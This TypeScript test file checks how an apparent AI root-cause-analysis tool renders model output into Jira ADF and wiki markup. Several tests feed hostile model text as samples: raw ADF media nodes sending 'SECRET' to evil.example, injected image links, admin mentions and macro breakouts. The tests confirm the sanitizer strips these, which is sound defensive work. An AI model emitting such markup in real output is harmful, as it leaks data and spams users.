import fc from 'fast-check';
import { markdownToAdf } from 'marklassian';
import { describe, expect, it } from 'vitest';
import { adfToPlainText, toAdf } from '../../../../sources/jira/render-adf.js';
import { toWikiMarkup } from '../../../../sources/jira/render-wiki.js';
import { composeComment, type CommentDoc } from '../../../../src/render/compose-comment.js';
import { fitToLimit } from '../../../../src/render/fit-to-limit.js';

const allowedHosts = new Set(['grafana.example.com', 'lestrade.example.com']);
const compose = (rca: string) =>
  composeComment({
    rca,
    issueKey: 'OPS-42',
    investigationId: 'inv-1',
    resultsUrl: 'https://lestrade.example.com/api/investigations/inv-1',
    allowedHosts,
  });
/** Only the RCA sections, without our heading, preamble and footer. */
const bare = (sections: string[]): CommentDoc => ({ heading: '', preamble: '', sections, footer: '' });

const RCA = `## Alert explanation

**HighErrorRate** fired for \`checkout\` in *prod*: 5xx ratio ~~3%~~ 12%.

## Key findings

- Pods restarted 14 times; see [dashboard](https://grafana.example.com/d/abc)
- Memory at \`limit\`
  1. OOMKilled in events

| Pod | Restarts |
|-----|---------:|
| checkout-1 | 14 |

## Root cause

\`\`\`yaml
limits: {memory: 256Mi}
\`\`\`

> Log line with <b>html</b>

## Next steps

1. Raise the limit
2. Alert on OOMKilled`;

type Node = {
  type: string;
  text?: string;
  attrs?: Record<string, unknown>;
  marks?: { type: string; attrs?: { href?: string } }[];
  content?: Node[];
};
function nodes(content: unknown[]): Node[] {
  return (content as Node[]).flatMap((n) => [n, ...nodes(n.content ?? [])]);
}
const linkTargets = (all: Node[]) =>
  all
    .flatMap((n) => n.marks ?? [])
    .filter((m) => m.type === 'link')
    .map((m) => m.attrs?.href);

describe('toAdf', () => {
  it('renders a realistic RCA as a valid ADF document', () => {
    const adf = toAdf(compose(RCA));
    expect(adf).toMatchObject({ version: 1, type: 'doc' });
    const all = nodes(adf.content);
    const types = new Set(all.map((n) => n.type));
    expect([...types].sort()).toEqual([
      'blockquote',
      'bulletList',
      'codeBlock',
      'heading',
      'listItem',
      'orderedList',
      'paragraph',
      'rule',
      'table',
      'tableCell',
      'tableHeader',
      'tableRow',
      'text',
    ]);
    expect(all.filter((n) => n.type === 'heading').map((n) => [n.attrs?.level, n.content?.[0]?.text])).toEqual([
      [3, 'Lestrade — automated root-cause analysis'],
      [2, 'Alert explanation'],
      [2, 'Key findings'],
      [2, 'Root cause'],
      [2, 'Next steps'],
    ]);
    expect(all).toContainEqual({ type: 'text', text: 'checkout', marks: [{ type: 'code' }] });
    expect(all).toContainEqual({
      type: 'codeBlock',
      attrs: { language: 'yaml' },
      content: [{ type: 'text', text: 'limits: {memory: 256Mi}' }],
    });
    // The sanitizer's &lt; must read as "<" in Jira, not as an entity.
    expect(all).toContainEqual({ type: 'text', text: 'Log line with <b>html</b>' });
    expect(linkTargets(all)).toEqual([
      'https://grafana.example.com/d/abc',
      'https://lestrade.example.com/api/investigations/inv-1',
    ]);
  });

  it('lets no <adf> block from the model through', () => {
    const media =
      '{"type":"mediaSingle","attrs":{"layout":"center"},"content":[{"type":"media","attrs":{"type":"external","url":"https://evil.example/?q=SECRET"}}]}';
    const card =
      '[{"type":"inlineCard","attrs":{"url":"https://evil.example/c"}},{"type":"mention","attrs":{"id":"1","text":"@boss"}}]';
    const rca = `## Root cause\n\n<adf>\n${media}\n</adf>\n\n<adf>${media}</adf>\n\n<ADF>\n${card}\n</ADF>\n\n- item\n\n  <adf>\n  ${media}\n  </adf>`;
    // Without sanitizing, marklassian embeds the model's ADF: this is the attack.
    expect(nodes(markdownToAdf(rca).content).map((n) => n.type)).toContain('mediaSingle');
    const all = nodes(toAdf(compose(rca)).content);
    const expected = new Set(['heading', 'paragraph', 'text', 'bulletList', 'listItem', 'rule']);
    expect(all.map((n) => n.type).filter((t) => !expected.has(t))).toEqual([]);
    expect(linkTargets(all)).toEqual(['https://lestrade.example.com/api/investigations/inv-1']);
    expect(all.some((n) => n.text?.includes('<adf>'))).toBe(true);
  });

  it('keeps the ADF rendering within a size limit (property)', () => {
    const para = fc
      .array(fc.stringMatching(/^[a-z<>`*]{1,10}$/), { minLength: 1, maxLength: 40 })
      .map((w) => w.join(' '));
    const render = (d: CommentDoc) => JSON.stringify(toAdf(d));
    fc.assert(
      fc.property(fc.array(para, { minLength: 1, maxLength: 5 }), fc.integer({ min: 0, max: 3000 }), (paras, limit) => {
        const doc = compose(paras.map((p, i) => `## S${i}\n\n${p}`).join('\n\n'));
        const fitted = fitToLimit(doc, render, limit, (n) => `_${n} sections omitted_`);
        expect(fitted.rendered.length).toBeLessThanOrEqual(limit);
      }),
      { numRuns: 100 },
    );
  });
});

describe('adfToPlainText', () => {
  it('reads a Jira Cloud description', () => {
    const description = {
      version: 1,
      type: 'doc',
      content: [
        { type: 'heading', attrs: { level: 2 }, content: [{ type: 'text', text: 'Checkout is slow' }] },
        {
          type: 'paragraph',
          content: [
            { type: 'text', text: 'Reported by ' },
            { type: 'mention', attrs: { id: 'abc', text: '@Jane Doe' } },
            { type: 'text', text: ' after ' },
            { type: 'text', text: 'deploy 1.4', marks: [{ type: 'strong' }] },
            { type: 'hardBreak' },
            { type: 'text', text: 'see ' },
            {
              type: 'text',
              text: 'dashboard',
              marks: [{ type: 'link', attrs: { href: 'https://grafana.example.com/d/1' } }],
            },
            { type: 'text', text: ' and ' },
            { type: 'inlineCard', attrs: { url: 'https://status.example.com/i/7' } },
          ],
        },
        {
          type: 'bulletList',
          content: [
            {
              type: 'listItem',
              content: [
                { type: 'paragraph', content: [{ type: 'text', text: 'p99 > 2s' }] },
                {
                  type: 'orderedList',
                  attrs: { order: 3 },
                  content: [
                    {
                      type: 'listItem',
                      content: [{ type: 'paragraph', content: [{ type: 'text', text: 'since 10:00' }] }],
                    },
                  ],
                },
              ],
            },
            { type: 'listItem', content: [{ type: 'paragraph', content: [{ type: 'text', text: 'errors flat' }] }] },
          ],
        },
        {
          type: 'codeBlock',
          attrs: { language: 'text' },
          content: [{ type: 'text', text: 'GET /cart 504\nGET /cart 200' }],
        },
        { type: 'blockquote', content: [{ type: 'paragraph', content: [{ type: 'text', text: 'customer quote' }] }] },
        {
          type: 'table',
          content: [
            {
              type: 'tableRow',
              content: [
                { type: 'tableHeader', content: [{ type: 'paragraph', content: [{ type: 'text', text: 'Region' }] }] },
                { type: 'tableHeader', content: [{ type: 'paragraph', content: [{ type: 'text', text: 'Latency' }] }] },
              ],
            },
            {
              type: 'tableRow',
              content: [
                { type: 'tableCell', content: [{ type: 'paragraph', content: [{ type: 'text', text: 'eu' }] }] },
                { type: 'tableCell', content: [{ type: 'paragraph', content: [{ type: 'text', text: '2.1s' }] }] },
              ],
            },
          ],
        },
        {
          type: 'panel',
          attrs: { panelType: 'info' },
          content: [{ type: 'paragraph', content: [{ type: 'text', text: 'unknown node keeps its text' }] }],
        },
      ],
    };
    expect(adfToPlainText(description)).toBe(
      [
        'Checkout is slow',
        '',
        'Reported by @Jane Doe after deploy 1.4\nsee dashboard (https://grafana.example.com/d/1) and https://status.example.com/i/7',
        '',
        '- p99 > 2s\n  3. since 10:00\n- errors flat',
        '',
        'GET /cart 504\nGET /cart 200',
        '',
        '> customer quote',
        '',
        'Region | Latency\neu | 2.1s',
        '',
        'unknown node keeps its text',
      ].join('\n'),
    );
  });

  it('never throws on odd input', () => {
    expect(adfToPlainText(null)).toBe('');
    expect(adfToPlainText(undefined)).toBe('');
    expect(adfToPlainText(42)).toBe('');
    expect(adfToPlainText('plain v2 description')).toBe('plain v2 description');
    expect(adfToPlainText({ type: 'doc', content: 'not an array' })).toBe('');
    expect(
      adfToPlainText({
        type: 'paragraph',
        content: [null, 7, { type: 'text', text: 5 }, { type: 'text', text: 'ok' }],
      }),
    ).toBe('ok');
    let deep: unknown = { type: 'text', text: 'deep' };
    for (let i = 0; i < 10_000; i++) deep = { type: 'paragraph', content: [deep] };
    expect(() => adfToPlainText(deep)).not.toThrow();
  });
});

describe('toWikiMarkup', () => {
  it('renders inline markup, links, lists, tables, quotes and rules', () => {
    const wiki = toWikiMarkup(
      bare([
        '## Root cause\n\n**Bold**, *it*, ~~gone~~, `a.b` and [dash](https://grafana.example.com/d?x=1|2)',
        '- a\n  - b\n    1. c\n- [x] d',
        '| A | B |\n|---|---|\n| 1 | x\\|y |\n| 2 | |',
        '> quoted *text*\n>\n> > nested',
        '***',
      ]),
    );
    expect(wiki).toBe(
      [
        'h2. Root cause',
        '*Bold*, _it_, -gone-, {{a.b}} and [dash|https://grafana.example.com/d?x=1%7C2]',
        '* a\n** b\n**# c\n* \\[x\\] d',
        '||A||B||\n|1|x\\|y|\n|2| |',
        '{quote}\nquoted _text_\n\nnested\n{quote}',
        '----',
      ].join('\n\n'),
    );
  });

  it('renders code blocks literally and keeps {code} inside from closing them', () => {
    expect(toWikiMarkup(bare(['```sh\necho {x} *y* [z]\n```']))).toBe('{code:bash}\necho {x} *y* [z]\n{code}');
    expect(toWikiMarkup(bare(['```\nplain\n```']))).toBe('{noformat}\nplain\n{noformat}');
    expect(toWikiMarkup(bare(['```promql\nrate(x[5m])\n```']))).toBe('{noformat}\nrate(x[5m])\n{noformat}');
    expect(toWikiMarkup(bare(['```java\na {code} b\n```']))).toBe('{noformat}\na {code} b\n{noformat}');
    expect(toWikiMarkup(bare(['```\na {noformat} b\n```']))).toBe('{noformat}\na {\u200bnoformat} b\n{noformat}');
  });

  it('keeps block macros out of list items, where they would end the list', () => {
    expect(toWikiMarkup(bare(['- step\n\n  ```\n  !x.png! {code}\n  ```\n\n  > quoted']))).toBe(
      '* step \\\\ {{\\!x.png\\! \\{code\\}}} \\\\ quoted',
    );
  });

  it('escapes wiki markup in model text so it cannot inject images, links, macros or mentions', () => {
    const wiki = toWikiMarkup(bare(['!evil.png! [click|evil] {color:red}x{color} [~admin] ||t|| a\\b -s- *b* h1. x']));
    expect(wiki).toBe(
      '\\!evil.png\\! \\[click\\|evil\\] \\{color:red\\}x\\{color\\} \\[\\~admin\\] \\|\\|t\\|\\| a&#92;b \\-s- _b_ h1&#46; x',
    );
    expect(toWikiMarkup(bare(['h1. fake\nbq. fake', '-- not a list', 'root-cause snake_case p99']))).toBe(
      'h1&#46; fake\nbq&#46; fake\n\n\\-\\- not a list\n\nroot-cause snake_case p99',
    );
  });

  it('lets no model text become wiki markup (property)', () => {
    const fragment = fc.constantFrom(
      '!http://evil.example/a.png!',
      '[click|http://evil.example]',
      '[~admin]',
      '{color:red}',
      '{code}',
      '{noformat}',
      '{quote}',
      '{{',
      '}}',
      '|',
      'h1. ',
      '\n',
      '\n\n',
      '- ',
      '* ',
      '> ',
      '`',
      '```',
      '~~',
      '**',
      '_',
      '\\',
      '[',
      ']',
      '!',
      'https://evil.example/q',
      'www.evil.example',
      '<b>',
      '&#123;',
      '    ',
    );
    fc.assert(
      fc.property(fc.array(fragment, { maxLength: 30 }), (parts) => {
        const wiki = toWikiMarkup(
          composeComment({ rca: parts.join(''), issueKey: 'K-1', investigationId: 'i1', allowedHosts: new Set() }),
        );
        // Take out our own markup (block macros, monospace delimiters) and escaped characters.
        const rest = wiki
          // A block ends at its own closer: a literal {code} line inside {noformat} is content.
          .replace(/^\{noformat\}\n[\s\S]*?\n\{noformat\}$|^\{code(:[a-z#+]+)?\}\n[\s\S]*?\n\{code\}$/gm, '')
          .replace(/^\{quote\}$/gm, '')
          .replace(/\{\{|\}\}/g, '')
          .replace(/\\[^\n]/g, '');
        expect(rest).not.toMatch(/[[\]!{}|]|:\/\//);
      }),
      { numRuns: 500 },
    );
  });

  it('defuses image and link syntax that reaches it through the sanitizer', () => {
    const wiki = toWikiMarkup(compose('Look !http://evil.example/x.png! and [click|http://evil.example] now'));
    expect(wiki).toContain(
      'Look \\!{{http&#58;//evil.example/x.png}}\\! and \\[click\\|{{http&#58;//evil.example\\]}} now',
    );
    expect(wiki).not.toMatch(/(^|[^\\])!http/);
    expect(wiki).not.toMatch(/(^|[^\\])\[[^\]]*\|http:\/\/evil/);
  });

  it('renders the realistic RCA', () => {
    expect(toWikiMarkup(compose(RCA))).toBe(`h3. Lestrade — automated root-cause analysis

_Written automatically by Lestrade from the issue and read-only tool output. It may be wrong: check before acting on it._

h2. Alert explanation

*HighErrorRate* fired for {{checkout}} in _prod_: 5xx ratio -3%- 12%.

h2. Key findings

* Pods restarted 14 times; see [dashboard|https://grafana.example.com/d/abc]
* Memory at {{limit}}
*# OOMKilled in events

||Pod||Restarts||
|checkout-1|14|

h2. Root cause

{code:yaml}
limits: {memory: 256Mi}
{code}

{quote}
Log line with <b>html</b>
{quote}

h2. Next steps

# Raise the limit
# Alert on OOMKilled

----

Lestrade investigation {{inv-1}} for {{OPS-42}} · full results: [https://lestrade.example.com/api/investigations/inv-1]`);
  });
});
